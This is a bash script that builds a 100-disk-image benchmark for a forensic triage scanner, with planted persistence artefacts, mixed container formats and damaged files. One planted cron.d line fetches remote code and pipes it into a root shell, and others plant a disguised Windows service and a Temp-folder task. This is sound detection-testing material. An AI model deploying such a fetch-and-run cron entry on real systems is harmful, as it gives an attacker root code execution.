#!/usr/bin/env bash
# Build the 100-image case that benches/case-100.sh scans (about 3 minutes; root and FUSE for
# ntfs-3g; qemu-img, ewfacquire, hivexsh, mke2fs, at; the shared corpus for real event logs).
#
#   40 Windows NTFS volumes (mkntfs + ntfs-3g) from the corpus scripts' task tree, TaskCache and
#      SYSTEM hive, each with its own computer name (hivexsh) and two real Security/System logs;
#      a task on every 7th host and a service on hosts 5 and 23 are the planted rare items,
#      another task on every 3rd host the common one;
#   40 Linux ext4 roots (mke2fs -d) from the corpus Debian layout, each with its own
#      /etc/hostname; a cron.d file on hosts 3 and 17 planted, a www-data crontab on every 5th;
#   14 corpus images (windows-tasks, linux-debian, linux-rhel, linux-auth, gpt-disk, mbr-logical,
#      ntfs-features, ext4-features, twice each where noted);
#   4 damaged copies (the second half cut off) and 2 files that are not disks (1 MiB of
#      random bytes and an empty file, both named `.img`);
# in mixed containers: every 5th built image raw, then qcow2, VMDK (sparse), VHDX (dynamic)
# and E01 (ewfacquire) in turn. Output: target/bench/case100/ (not committed).
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
B=${B:-$ROOT/target/bench/case100}
REAL=${FOOTHOLD_REAL_CORPUS:-$ROOT/../shared/corpus-real}
WORK=$(mktemp -d /tmp/foothold-case.XXXXXX)
OUT=$WORK/out
export WORK OUT
# shellcheck source=../corpus/lib.sh
. corpus/lib.sh
rm -rf "$B"; mkdir -p "$B"

# container N FILE NAME: FILE (raw) into $B as NAME.<ext>, the container chosen by N.
container() {
  local n=$1 raw=$2 name=$3
  case $((n % 5)) in
    0) mv "$raw" "$B/$name.img" ;;
    1) qemu-img convert -f raw -O qcow2 "$raw" "$B/$name.qcow2"; rm -f "$raw" ;;
    2) qemu-img convert -f raw -O vmdk -o subformat=monolithicSparse "$raw" "$B/$name.vmdk"; rm -f "$raw" ;;
    3) qemu-img convert -f raw -O vhdx -o subformat=dynamic "$raw" "$B/$name.vhdx"; rm -f "$raw" ;;
    4) ewfacquire -u -q -t "$B/$name" -f encase6 -c deflate:fast -C CASE-100 -e bench -E "$name" "$raw" >/dev/null
       rm -f "$raw" ;;
  esac
}

# ---------------------------------------------------------------- Windows hosts
base=$WORK/winbase
mkdir -p "$base/Windows/System32/config" "$base/Windows/System32/winevt/Logs"
python3 corpus/windows_tasks.py "$base" 20
python3 corpus/task_cache.py "$base/Windows/System32/config/SOFTWARE"
python3 corpus/system_hive.py "$base/Windows/System32/config/SYSTEM"
cp "$REAL/evtx/mdecrevoisier__ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation_GLOBAL.evtx" \
  "$base/Windows/System32/winevt/Logs/Security.evtx"
cp "$REAL/evtx/deepblue__metasploit-psexec-native-target-system.evtx" "$base/Windows/System32/winevt/Logs/System.evtx"
task() { # task COMMAND: a task XML running COMMAND at logon
  printf '<?xml version="1.0"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>CORP\\admin</Author></RegistrationInfo><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>%s</Command></Exec></Actions></Task>' "$1"
}
for i in $(seq 1 40); do
  h=$(printf 'WS-%02d' "$i") tree=$WORK/win$i img=$WORK/win$i.img
  rm -rf "$tree"; cp -r "$base" "$tree"
  t=$tree/Windows/System32/Tasks
  [ $((i % 3)) -eq 0 ] && task 'C:\Program Files\Google\Update\GoogleUpdate.exe' >"$t/GoogleUpdateTaskMachineUA"
  [ $((i % 7)) -eq 0 ] && task "C:\\Users\\user$i\\AppData\\Local\\Temp\\svc.exe" >"$t/OneDriveUpdate"
  sys=$tree/Windows/System32/config/SYSTEM
  {
    # Select\Current names ControlSet002 (corpus/system_hive.py).
    echo 'cd \ControlSet002'; echo 'add Control'; echo 'cd Control'; echo 'add ComputerName'; echo 'cd ComputerName'
    echo 'add ComputerName'; echo 'cd ComputerName'; echo 'setval 1'; echo 'ComputerName'; echo "string:$h"
    if [ "$i" -eq 5 ] || [ "$i" -eq 23 ]; then
      echo 'cd \ControlSet002\Services'; echo 'add WinDefendUpd'; echo 'cd WinDefendUpd'; echo 'setval 3'
      echo 'ImagePath'; echo 'string:C:\ProgramData\wdu\wdu.exe -svc'
      echo 'Start'; echo 'dword:0x2'; echo 'Type'; echo 'dword:0x10'
    fi
    echo 'commit'
  } | hivexsh -w "$sys" >/dev/null
  truncate -s 48M "$img"; mkntfs -q -F -L Windows "$img" 2>/dev/null
  ntfs_mount "$img"; cp -r "$tree/Windows" "$MNT/"; ntfs_umount
  rm -rf "$tree"
  container "$i" "$img" "$h"
done

# ---------------------------------------------------------------- Linux hosts
for j in $(seq 1 40); do
  h=$(printf 'srv-%02d' "$j") root=$WORK/lin$j img=$WORK/lin$j.img
  rm -rf "$root"; mkdir -p "$root"
  debian_tree "$root"
  echo "$h" >"$root/etc/hostname"
  [ $((j % 5)) -eq 0 ] && printf '*/30 * * * * /usr/bin/php /var/www/html/cron.php\n' >"$root/var/spool/cron/crontabs/www-data"
  if [ "$j" -eq 3 ] || [ "$j" -eq 17 ]; then
    printf '* * * * * root curl -s http://198.51.100.7/k | bash\n' >"$root/etc/cron.d/.sysupd"
  fi
  mke2fs -q -t ext4 -L "$h" -d "$root" "$img" 16M
  rm -rf "$root"
  container "$((j + 2))" "$img" "$h"
done

# ---------------------------------------------------------------- corpus images, damaged copies, non-disks
n=0
for c in windows-tasks linux-debian linux-rhel linux-auth gpt-disk mbr-logical ntfs-features ext4-features \
  windows-tasks linux-debian linux-rhel linux-auth gpt-disk ntfs-features; do
  n=$((n + 1))
  zstd -q -d -f "corpus/images/$c.img.zst" -o "$WORK/c$n.img"
  container "$n" "$WORK/c$n.img" "corpus-$n-$c"
done
for c in windows-tasks linux-debian gpt-disk mbr-logical; do
  zstd -q -d -f "corpus/images/$c.img.zst" -o "$B/damaged-$c.img"
  truncate -s $(($(stat -c %s "$B/damaged-$c.img") / 2)) "$B/damaged-$c.img"
done
head -c 1048576 /dev/urandom >"$B/unreadable.img"
: >"$B/empty.img"
rm -rf "$WORK"
echo "$(find "$B" -type f | wc -l) files, $(du -sh "$B" | cut -f1) in $B" >&2
